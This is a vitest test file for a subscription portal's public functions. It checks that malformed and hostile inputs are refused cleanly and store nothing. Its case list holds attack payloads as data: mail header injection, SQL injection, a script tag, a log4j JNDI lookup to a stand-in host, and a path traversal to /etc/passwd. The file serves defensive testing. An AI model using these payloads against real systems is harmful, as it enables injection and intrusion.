import { createClient, type SupabaseClient } from '@supabase/supabase-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalSupabase } from '../../src/services/local-supabase/index.ts';
import { solvedChallenge, useTestFollowSettings } from './follow-challenge.ts';
import { startFixturePortal } from './support.ts';

// Malformed and hostile addresses and inputs to the resident-facing subscription functions, sent the way a
// resident's browser (or an attacker) sends them: anonymous. Each must be answered with a 400 whose message
// a resident can act on, whose hint names the field the form puts the message next to ('' for the form as a
// whole), and must store nothing: not a subscriber, not a rate-limit row, not a mail.

let portal: LocalSupabase;
let resident: SupabaseClient;
beforeAll(async () => {
  portal = await startFixturePortal();
  await useTestFollowSettings(portal.db);
  resident = createClient(portal.url, portal.anonKey, {
    auth: { persistSession: false, autoRefreshToken: false },
    global: { headers: { 'x-forwarded-for': '192.0.2.66' } },
  });
});
afterAll(async () => {
  await portal?.close();
});

type Json = Record<string, unknown>;
const follow = (over: Json = {}): Json => ({
  organisation: 'testdam',
  project: 'testproject',
  email: 'jan@voorbeeld.nl',
  language: 'nl',
  frequency: 'weekly',
  ...over,
});
const email = (address: unknown): Json => follow({ email: address });
/** A token of the right form that no link ever carried: the refusal must come from the other field. */
const WELL_FORMED = 'Q'.repeat(43);

/** [what it is, function, input, the field the hint must name] */
const CASES: [string, string, unknown, string][] = [
  // The form as a whole
  ['null instead of a form', 'follow_project', null, ''],
  ['an array instead of an object', 'follow_project', [follow()], ''],
  ['a string instead of an object', 'follow_project', JSON.stringify(follow()), ''],
  ['a number instead of an object', 'confirm_subscription', 42, ''],
  // Addresses: missing or not text
  ['no address', 'follow_project', email(undefined), 'email'],
  ['an empty address', 'follow_project', email(''), 'email'],
  ['an address of only spaces and tabs', 'follow_project', email(' \t\n '), 'email'],
  ['a number as address', 'follow_project', email(12345), 'email'],
  ['a list of addresses', 'follow_project', email(['jan@voorbeeld.nl']), 'email'],
  ['an object as address', 'follow_project', email({ $ne: null }), 'email'],
  ['true as address', 'follow_project', email(true), 'email'],
  // Addresses: malformed
  ['no @ at all', 'follow_project', email('janvoorbeeld.nl'), 'email'],
  ['nothing before the @', 'follow_project', email('@voorbeeld.nl'), 'email'],
  ['nothing after the @', 'follow_project', email('jan@'), 'email'],
  ['two @ signs', 'follow_project', email('jan@@voorbeeld.nl'), 'email'],
  ['no top-level domain', 'follow_project', email('jan@voorbeeld'), 'email'],
  ['localhost', 'follow_project', email('jan@localhost'), 'email'],
  ['a top-level domain with digits', 'follow_project', email('jan@voorbeeld.n1'), 'email'],
  ['two dots in a row before the @', 'follow_project', email('jan..devries@voorbeeld.nl'), 'email'],
  ['a leading dot', 'follow_project', email('.jan@voorbeeld.nl'), 'email'],
  ['a dot just before the @', 'follow_project', email('jan.@voorbeeld.nl'), 'email'],
  ['a domain starting with a dash', 'follow_project', email('jan@-voorbeeld.nl'), 'email'],
  ['a domain label ending with a dash', 'follow_project', email('jan@voorbeeld-.nl'), 'email'],
  ['two dots in the domain', 'follow_project', email('jan@voorbeeld..nl'), 'email'],
  ['a dot right after the @', 'follow_project', email('jan@.voorbeeld.nl'), 'email'],
  ['a trailing dot', 'follow_project', email('jan@voorbeeld.nl.'), 'email'],
  ['an underscore in the domain', 'follow_project', email('jan@mijn_domein.nl'), 'email'],
  ['a space inside', 'follow_project', email('jan de vries@voorbeeld.nl'), 'email'],
  ['a quoted local part', 'follow_project', email('"jan de vries"@voorbeeld.nl'), 'email'],
  ['a comment in parentheses', 'follow_project', email('jan(thuis)@voorbeeld.nl'), 'email'],
  ['an IP literal', 'follow_project', email('jan@[127.0.0.1]'), 'email'],
  ['a bare IP address as domain', 'follow_project', email('jan@127.0.0.1'), 'email'],
  ['a local part of 65 characters', 'follow_project', email(`${'a'.repeat(65)}@voorbeeld.nl`), 'email'],
  [
    'an address of 256 characters',
    'follow_project',
    email(`${'j'.repeat(6)}@${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(60)}.${'g'.repeat(63)}.nl`),
    'email',
  ],
  ['an address of 10,000 characters', 'follow_project', email(`${'x'.repeat(10_000)}@voorbeeld.nl`), 'email'],
  // Addresses: attempts at more than one recipient, or at mail headers
  ['a header injection with CRLF and Bcc', 'follow_project', email('jan@voorbeeld.nl\r\nBcc: slachtoffer@voorbeeld.nl'), 'email'],
  ['a header injection with only LF', 'follow_project', email('jan@voorbeeld.nl\nTo: slachtoffer@voorbeeld.nl'), 'email'],
  ['a URL-encoded header injection', 'follow_project', email('jan@voorbeeld.nl%0d%0abcc:slachtoffer@voorbeeld.nl'), 'email'],
  ['two addresses with a comma', 'follow_project', email('jan@voorbeeld.nl, piet@voorbeeld.nl'), 'email'],
  ['two addresses with a semicolon', 'follow_project', email('jan@voorbeeld.nl;piet@voorbeeld.nl'), 'email'],
  ['a display name with angle brackets', 'follow_project', email('Jan <jan@voorbeeld.nl>'), 'email'],
  ['a mailto: link', 'follow_project', email('mailto:jan@voorbeeld.nl'), 'email'],
  ['SQL after the address', 'follow_project', email("jan@voorbeeld.nl'; drop table portal.subscribers; --"), 'email'],
  ['markup as the local part', 'follow_project', email('<script>alert(1)</script>@voorbeeld.nl'), 'email'],
  ['a log4j lookup', 'follow_project', email('${jndi:ldap://aanval.example/a}@voorbeeld.nl'), 'email'],
  // Addresses: invisible and look-alike characters
  ['a bell character', 'follow_project', email('jan@voorbeeld.nl\u0007'), 'email'],
  ['an escape sequence', 'follow_project', email('\u001b[31mjan@voorbeeld.nl'), 'email'],
  ['a zero-width space', 'follow_project', email('jan\u200b@voorbeeld.nl'), 'email'],
  ['a right-to-left override', 'follow_project', email('jan@voorbeeld.nl\u202eln.'), 'email'],
  ['a Cyrillic look-alike letter', 'follow_project', email('j\u0430n@voorbeeld.nl'), 'email'],
  ['an accented domain', 'follow_project', email('jan@bücher.nl'), 'email'],
  // The other fields of the follow form
  ['no organisation', 'follow_project', follow({ organisation: undefined }), 'organisation'],
  ['an organisation that does not exist', 'follow_project', follow({ organisation: 'nergensdam' }), 'organisation'],
  ['a number as organisation', 'follow_project', follow({ organisation: 7 }), 'organisation'],
  ['a draft project', 'follow_project', follow({ project: 'conceptproject' }), 'project'],
  ['a project of another organisation', 'follow_project', follow({ project: 'anderproject' }), 'project'],
  ['a project slug that climbs directories', 'follow_project', follow({ project: '../../etc/passwd' }), 'project'],
  ['a list as project', 'follow_project', follow({ project: ['testproject'] }), 'project'],
  ['a language that is not offered', 'follow_project', follow({ language: 'de' }), 'language'],
  ['a language in capitals', 'follow_project', follow({ language: 'NL' }), 'language'],
  ['a frequency that does not exist', 'follow_project', follow({ frequency: 'hourly' }), 'frequency'],
  ['SQL in the frequency', 'follow_project', follow({ frequency: "weekly'; drop table portal.outbox; --" }), 'frequency'],
  ['participate as the word yes', 'follow_project', follow({ participate: 'ja' }), 'participate'],
  ['participate as a number', 'follow_project', follow({ participate: 1 }), 'participate'],
  ['a group name of 101 characters', 'follow_project', follow({ group_name: 'g'.repeat(101) }), 'group_name'],
  ['an e-mail address as group name', 'follow_project', follow({ group_name: 'Buurt Oost, mail piet@voorbeeld.nl' }), 'group_name'],
  ['a control character in the group name', 'follow_project', follow({ group_name: 'Oost\u0008' }), 'group_name'],
  // The proof of work: a valid form with a solution that is not one (the fields are checked first)
  ['no solution of the challenge', 'follow_project', follow(), 'altcha'],
  ['null as solution', 'follow_project', follow({ altcha: null }), 'altcha'],
  ['an object as solution', 'follow_project', follow({ altcha: { challenge: {}, solution: {} } }), 'altcha'],
  ['a list as solution', 'follow_project', follow({ altcha: ['x'] }), 'altcha'],
  ['SQL as solution', 'follow_project', follow({ altcha: "'; update portal.deployment_settings set challenge_cost = 1; --" }), 'altcha'],
  ['a solution of a megabyte', 'follow_project', follow({ altcha: 'QUFB'.repeat(250_000) }), 'altcha'],
  [
    'base64 of JSON nested deep',
    'follow_project',
    follow({ altcha: Buffer.from(`${'['.repeat(60)}${']'.repeat(60)}`).toString('base64') }),
    'altcha',
  ],
  [
    'base64 of a solution with strings for numbers',
    'follow_project',
    follow({
      altcha: Buffer.from(
        JSON.stringify({
          challenge: {
            parameters: {
              algorithm: 'PBKDF2/SHA-256',
              cost: '1',
              expiresAt: '9999999999',
              keyLength: '32',
              keyPrefix: '0'.repeat(32),
              keySignature: '0'.repeat(64),
              nonce: '0'.repeat(32),
              salt: '0'.repeat(32),
            },
            signature: '0'.repeat(64),
          },
          solution: { counter: '1', derivedKey: '0'.repeat(64) },
        }),
      ).toString('base64'),
    }),
    'altcha',
  ],
  ['base64 of invalid UTF-8', 'follow_project', follow({ altcha: Buffer.from([0xff, 0xfe, 0x7b, 0x7d]).toString('base64') }), 'altcha'],
  // The links in mails
  ['no token', 'confirm_subscription', {}, 'token'],
  ['an empty token', 'confirm_subscription', { token: '' }, 'token'],
  ['a token cut short', 'confirm_subscription', { token: WELL_FORMED.slice(0, 20) }, 'token'],
  ['a token with base64 padding', 'confirm_subscription', { token: `${WELL_FORMED}=` }, 'token'],
  ['a token in standard base64', 'confirm_subscription', { token: `${'Q'.repeat(41)}+/` }, 'token'],
  ['SQL as token', 'unsubscribe', { token: "' or '1'='1' --                            " }, 'token'],
  ['a number as token', 'unsubscribe', { token: 1234567890 }, 'token'],
  ['a token with a space inside', 'delete_my_data', { token: `${'Q'.repeat(20)} ${'Q'.repeat(22)}` }, 'token'],
  ['a list as token', 'my_subscriptions', { token: [WELL_FORMED] }, 'token'],
  ['a subscription id that is a word', 'unsubscribe', { token: WELL_FORMED, subscription_id: 'alles' }, 'subscription_id'],
  [
    'SQL in a subscription id',
    'update_subscription',
    { token: WELL_FORMED, subscription_id: "00000000-0000-4000-8000-000000000001' or '1'='1", frequency: 'daily' },
    'subscription_id',
  ],
  ['a frequency without a subscription', 'update_subscription', { token: WELL_FORMED, frequency: 'daily' }, 'subscription_id'],
  [
    'a frequency that does not exist on the manage page',
    'update_subscription',
    { token: WELL_FORMED, subscription_id: '00000000-0000-4000-8000-000000000001', frequency: 'never' },
    'frequency',
  ],
  ['a language that is not offered on the manage page', 'update_subscription', { token: WELL_FORMED, language: 'fr' }, 'language'],
];

/** A fingerprint of every table these functions write: row count and content. */
async function fingerprint(): Promise<string> {
  const tables = ['subscribers', 'subscriptions', 'subscriber_tokens', 'erased_tokens', 'mail_requests', 'outbox', 'spent_challenges'];
  const parts = await Promise.all(
    tables.map(async (table) => {
      const { rows } = await portal.db.query<{ f: string }>(
        `select count(*) || ':' || coalesce(md5(string_agg(t::text, '|' order by t::text)), '') as f from portal.${table} t`,
      );
      return `${table}=${rows[0]?.f}`;
    }),
  );
  return parts.join(' ');
}

/** Words that betray a raw database error instead of a message written for people. */
const SQL_JARGON = /constraint|violates|syntax|relation|column|null value|duplicate key|invalid input|permission denied|function/i;

describe('hostile input to the subscription functions', () => {
  it('has at least 50 cases, most of them addresses', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
    expect(CASES.filter(([, , , field]) => field === 'email').length).toBeGreaterThanOrEqual(40);
  });

  const named = CASES.map(([what, fn, input, field]) => [what, fn, field, input] as const);
  it.each(named)('%s (%s) is refused on field "%s"', async (_what, fn, field, input) => {
    const before = await fingerprint();
    const { error, status } = await resident.rpc(fn, { input });
    expect(status).toBe(400);
    expect(error?.code).toBe('22023');
    expect(error?.message.length).toBeGreaterThan(5);
    expect(error?.message).not.toMatch(SQL_JARGON);
    expect(error?.hint ?? '').toBe(field);
    expect(await fingerprint()).toBe(before);
  });

  it('a valid address next to these is accepted, so the refusals are about the input', async () => {
    const before = await fingerprint();
    const input = follow({ email: "o'brien+buurt@sub.voorbeeld.nl", altcha: await solvedChallenge(resident) });
    const { error, status } = await resident.rpc('follow_project', { input });
    expect(error).toBeNull();
    expect(status).toBe(200);
    expect(await fingerprint()).not.toBe(before);
  });
});
